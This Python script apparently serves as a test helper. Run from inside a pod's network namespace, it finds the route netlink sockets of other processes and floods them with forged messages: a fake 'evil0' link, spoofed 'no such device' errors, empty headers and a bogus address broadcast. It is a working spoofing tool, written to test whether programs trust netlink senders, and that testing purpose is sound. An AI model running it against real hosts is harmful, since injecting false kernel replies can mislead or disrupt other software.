"""A program of a pod that may administer its network: sends forged netlink messages to the sockets of others.

Runs in the pod's network namespace, as a process of its own: ``python netlink_forger.py WHAT SECONDS``.
"""

from __future__ import annotations

import socket
import struct
import sys
import time
from collections.abc import Iterator
from pathlib import Path

ERROR, NEWLINK, NEWADDR = 2, 16, 20
GROUPS = 1 << 4 | 1 << 8  # RTNLGRP_IPV4_IFADDR, RTNLGRP_IPV6_IFADDR
EVIL_MAC = bytes.fromhex("666666666666")
SEQUENCES = range(1, 64)


def _attribute(kind: int, value: bytes) -> bytes:
    return struct.pack("=HH", 4 + len(value), kind) + value + bytes(-len(value) % 4)


def _message(kind: int, sequence: int, body: bytes) -> bytes:
    return struct.pack("=IHHII", 16 + len(body), kind, 0, sequence, 0) + body


def _link(sequence: int) -> bytes:
    body = struct.pack("=BxHiII", 0, 1, 66, 1, 0) + _attribute(3, b"evil0\0") + _attribute(1, EVIL_MAC)
    return _message(NEWLINK, sequence, body + _attribute(4, struct.pack("=I", 1500)))


def links() -> Iterator[bytes]:
    """A link of the attacker's making, as the answer to any early request, each with its acknowledgement."""
    for sequence in SEQUENCES:
        yield _link(sequence) + _message(ERROR, sequence, bytes(20))


def refusals() -> Iterator[bytes]:
    """The errno by which the kernel says that a link does not exist."""
    for sequence in SEQUENCES:
        yield _message(ERROR, sequence, struct.pack("=i", -19) + bytes(16))


def empty() -> Iterator[bytes]:
    """A message whose header says that it has no bytes."""
    yield bytes(16)


def addresses() -> Iterator[bytes]:
    """The news of a global address."""
    yield _message(NEWADDR, 0, struct.pack("=BBBBI", socket.AF_INET, 24, 0, 0, 1) + _attribute(2, b"\1\2\3\4"))


def others(own: int) -> list[int]:
    """The port ids of the route sockets of this namespace, but the kernel's and ours."""
    lines = Path("/proc/net/netlink").read_text().splitlines()[1:]
    ports = [int(line.split()[2]) for line in lines if line.split()[1] == "0"]
    return [port for port in ports if port not in (0, own)]


def main(what: str, seconds: float) -> None:
    """Send to all others until the time is over, at least once; prints a line after the first round."""
    datagrams = list({"links": links, "refusals": refusals, "empty": empty, "addresses": addresses}[what]())
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, socket.NETLINK_ROUTE) as forger:
        forger.bind((0, 0))
        forger.setblocking(False)
        end, said = time.monotonic() + seconds, False
        while not said or time.monotonic() < end:
            targets = [(port, 0) for port in others(forger.getsockname()[0])]
            for target in [*targets, (0, GROUPS)] if what == "addresses" else targets:
                _send(forger, datagrams, target)
            if not said:
                print("sent", len(targets), flush=True)
                said = True


def _send(forger: socket.socket, datagrams: list[bytes], target: tuple[int, int]) -> None:
    for datagram in datagrams:
        try:
            forger.sendto(datagram, target)
        except OSError:  # refused, or the buffer is full
            return


if __name__ == "__main__":
    main(sys.argv[1], float(sys.argv[2]))
